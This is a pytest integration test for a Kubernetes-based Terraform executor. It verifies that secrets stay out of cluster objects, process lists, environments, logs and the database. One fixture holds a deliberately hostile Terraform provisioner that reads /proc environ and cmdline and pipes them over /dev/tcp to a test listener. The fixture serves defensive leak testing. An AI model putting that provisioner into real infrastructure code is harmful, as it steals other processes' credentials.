"""What is secret stays with those to whom it was given: not in the cluster, a log, a process list or the database."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import secrets
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.db import connection
from kubernetes import client

from executors.attempts.tokens import claim_token
from executors.logs import store
from executors.models import Attempt
from tests.factories import GlobalVariableFactory
from tests.spine.bell import Bell
from tests.spine.cluster import Cluster, Object, arguments, decoded, environment, processes_of
from tests.spine.conftest import SiteMaker
from tests.spine.site import Site, database_url
from tests.spine.sources import GitServer
from workspaces.choices import Category, JobStatus, VcsStatus, VcsType
from workspaces.models import Job, Vcs
from workspaces.services.jobs import approve_job
from workspaces.services.workspaces import set_variable

pytestmark = [pytest.mark.cluster, pytest.mark.postgres, pytest.mark.redis]

EXECUTOR_SECRET = "terrakube-executor-secrets"
FLOW = """
flow:
  - {type: terraformPlan, name: Plan, step: 100}
  - {type: approval, name: Approval, step: 150}
  - {type: terraformApply, name: Apply, step: 200}
"""
# The module shows what it was given, as careless ones do, and looks for what it was not.
MODULE = """
variable "password" { type = string }
output "password" { value = var.password }
resource "terraform_data" "looking" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      echo "the token is $API_TOKEN, the key $TEAM_KEY"
      cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' >/dev/tcp/HOST/PORT
      RING
      sleep 6
    EOT
  }
}
"""


def secret(name: str) -> str:
    return f"{name}-{secrets.token_hex(16)}"


@dataclass(frozen=True)
class Running:
    """An apply in the middle of its command, and all that was seen of it then. Texts are what nobody else may see."""

    job: Job
    attempt: Attempt
    given: dict[str, str]
    elsewhere: dict[str, str]
    pod: Object
    objects: list[Object]
    commands: list[list[str]]
    environments: dict[str, dict[str, str]]
    seen_by_script: list[str]

    @property
    def all_secrets(self) -> dict[str, str]:
        return {**self.given, **self.elsewhere}


@pytest.fixture(scope="module", params=[False, True], ids=["guide", "optional-role"])
def site(make_site: SiteMaker, request: pytest.FixtureRequest) -> Iterator[Site]:
    with make_site(optional_role=request.param, ExecutorEphemeralSecret=EXECUTOR_SECRET) as site:
        yield site


@pytest.fixture(scope="module")
def keys(site: Site, cluster_api: client.ApiClient) -> dict[str, str]:
    """The installation's keys, and those that an executor's Secret made for Terrakube holds."""
    for_executor = {"InternalSecret": secret("internal"), "AwsStorageSecretKey": secret("storage")}
    metadata = client.V1ObjectMeta(name=EXECUTOR_SECRET)
    made = client.V1Secret(metadata=metadata, string_data=for_executor)
    client.CoreV1Api(cluster_api).create_namespaced_secret(site.namespace, made)
    return {
        **{f"executor's {name}": text for name, text in for_executor.items()},
        "secret key": settings.SECRET_KEY,
        "internal secret": settings.INTERNAL_SECRET,
        "token secret": settings.PAT_SECRET,
        "encryption key": settings.ENCRYPTION_KEYS[0],
        "database password": urlsplit(database_url()).password or "",
        "Redis password": os.environ["TerrakubeRedisPassword"],
    }


@pytest.fixture(scope="module")
def running(
    site: Site, look: Callable[[Site], Cluster], keys: dict[str, str], git: GitServer, kube_host: str
) -> Iterator[Running]:
    """A plan and its apply, looked at while the apply runs its command; the job has completed afterwards."""
    cluster = look(site)
    with Bell(kube_host).serving() as bell:
        site.start()
        given = {"API_TOKEN": secret("token"), "TEAM_KEY": secret("key")}
        elsewhere = {**keys, "password": secret("password"), "repository token": secret("repository")}
        module = MODULE.replace("HOST", bell.host).replace("PORT", str(bell.port))
        module = module.replace("RING", bell.script("looked"))
        vcs = Vcs.objects.create(
            organization=site.organization,
            name="repositories",
            vcs_type=VcsType.GITLAB,
            access_token=elsewhere["repository token"],
            status=VcsStatus.COMPLETED,
        )
        repository = git.repository(site.namespace, {"main.tf": module})
        workspace = site.workspace(source=repository.url, branch="main", vcs=vcs)
        for key, value, category in (
            ("API_TOKEN", given["API_TOKEN"], Category.ENV),
            ("password", elsewhere["password"], Category.TERRAFORM),
        ):
            set_variable(workspace, by=None, key=key, value=value, category=category, sensitive=True)
        GlobalVariableFactory.create(
            organization=site.organization, key="TEAM_KEY", value=given["TEAM_KEY"], sensitive=True
        )
        job = site.job(workspace, FLOW)
        site.await_status(job, JobStatus.WAITING_APPROVAL)
        approve_job(job, by=None)
        bell.await_ring("looked")
        attempt = Attempt.objects.get(step__job=job, step__step_number=200)
        elsewhere["claim token"] = claim_token(attempt)
        pod = cluster.pod_of(attempt)
        commands, environments = _processes(processes_of(pod))
        ours = [found for found in cluster.secrets() if found["metadata"]["name"] != EXECUTOR_SECRET]
        objects = [*cluster.jobs(), *cluster.pods(), *cluster.events(), *ours]
        site.await_status(job, JobStatus.COMPLETED)
        attempt.refresh_from_db()
        yield Running(job, attempt, given, elsewhere, pod, objects, commands, environments, bell.rung)


def _processes(folders: Iterable[Path]) -> tuple[list[list[str]], dict[str, dict[str, str]]]:
    commands, environments = [], {}
    for folder in folders:
        command = arguments(folder)
        commands.append(command)
        environments[Path(command[0]).name] = environment(folder)
    return commands, environments


def found_in(text: str, wanted: dict[str, str]) -> list[str]:
    """The names of the secrets that a text holds."""
    return [name for name, value in wanted.items() if value in text]


def holds_session(text: str, attempt: Attempt) -> bool:
    """Whether the session that claimed an attempt, of which only the hash is known, is a word of a text."""
    words = set(re.findall(r"[A-Za-z0-9_-]{40,}=*", text))
    return attempt.session_hash in {hashlib.sha256(word.encode()).hexdigest() for word in words}


def test_the_cluster_holds_a_one_time_token_and_nothing_else(running: Running, site: Site) -> None:
    known_to_cluster = {name: text for name, text in running.all_secrets.items() if name != "claim token"}
    assert found_in(json.dumps(running.objects), known_to_cluster) == []
    assert not holds_session(json.dumps(running.objects), running.attempt)

    (entry,) = (each for each in running.pod["spec"]["containers"][0]["env"] if each["name"] == "EphemeralJobData")
    held = [found for found in running.objects if "type" in found and "data" in found]
    if held:
        # With the optional Role the token lies in a Secret of the Job's, and nowhere in its spec.
        others = [found for found in running.objects if found not in held]
        assert running.all_secrets["claim token"] not in json.dumps(others)
        name = entry["valueFrom"]["secretKeyRef"]["name"]
        (found,) = (each for each in held if each["metadata"]["name"] == name)
        assert list(found["data"]) == ["EphemeralJobData"]
        assert [owner["kind"] for owner in found["metadata"]["ownerReferences"]] == ["Job"]
        data = decoded(decoded_text(found["data"]["EphemeralJobData"]))
    else:
        data = decoded(entry["value"])
    assert data == {
        "attemptUrl": f"{site.address}/executor/v1/attempts/{running.attempt.pk}",
        "attemptToken": running.all_secrets["claim token"],
    }


def decoded_text(text: str) -> str:
    """The text of one entry of a Secret."""
    return base64.b64decode(text).decode()


def test_the_process_list_of_the_pod_holds_no_secret(running: Running) -> None:
    listed = json.dumps(running.commands)
    assert "terraform" in listed
    assert "executors.agent" in listed
    assert found_in(listed, running.all_secrets) == []
    assert not holds_session(listed, running.attempt)


def test_terraform_is_given_the_steps_variables_and_no_key(running: Running) -> None:
    terraform = running.environments["terraform"]
    assert {name: terraform.get(name) for name in running.given} == running.given
    text = json.dumps(terraform)
    assert found_in(text, running.elsewhere) == []
    assert not holds_session(text, running.attempt)
    steering = {"EphemeralJobData", "EphemeralFlagBatch", "InternalSecret", "TERRAKUBE_ENABLE_EPHEMERAL_EXECUTOR"}
    assert steering.isdisjoint(terraform)


def test_the_executor_was_started_with_no_secret_but_its_token_and_what_its_pod_mounts(running: Running) -> None:
    text = json.dumps(running.environments["python3"])
    mounted = {name for name in running.elsewhere if name.startswith("executor's ")}
    secret_here = {name: value for name, value in running.all_secrets.items() if name not in mounted}
    assert found_in(text, secret_here) == []
    assert not holds_session(text, running.attempt)


def test_a_script_finds_no_key_in_the_processes_around_it(running: Running) -> None:
    seen = "\n".join(running.seen_by_script)
    assert running.given["API_TOKEN"] in seen, "the script looked, and saw its own environment"
    assert found_in(seen, running.elsewhere) == []
    assert not holds_session(seen, running.attempt)
    assert "EphemeralJobData=" not in seen


def test_no_log_shows_a_secret(running: Running, site: Site, look: Callable[[Site], Cluster]) -> None:
    cluster = look(site)
    shown = "".join(store.read_log(found).data.decode() for found in Attempt.objects.filter(step__job=running.job))
    assert "the token is" in shown
    assert "password =" in shown
    texts = {
        "the step's log": shown,
        "the pods' log": "".join(cluster.log(pod) for pod in cluster.pods()),
        **{f"the log of {process.name}": process.tail(10**6) for process in site.processes},
    }
    assert {where: found_in(text, running.all_secrets) for where, text in texts.items()} == {
        where: [] for where in texts
    }
    assert not any(holds_session(text, running.attempt) for text in texts.values())


def test_the_database_holds_no_secret_in_plain_text(running: Running) -> None:
    stored = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names(cursor):
            cursor.execute(f"SELECT row_to_json(t)::text FROM {connection.ops.quote_name(table)} t")  # noqa: S608
            stored += [text for (text,) in cursor.fetchall()]
    everything = "\n".join(stored)
    assert str(running.attempt.pk) in everything
    # Bytes are written as hexadecimal digits there.
    as_bytes = {name: value.encode().hex() for name, value in running.all_secrets.items()}
    assert found_in(everything, running.all_secrets) + found_in(everything, as_bytes) == []
    assert not holds_session(everything, running.attempt)
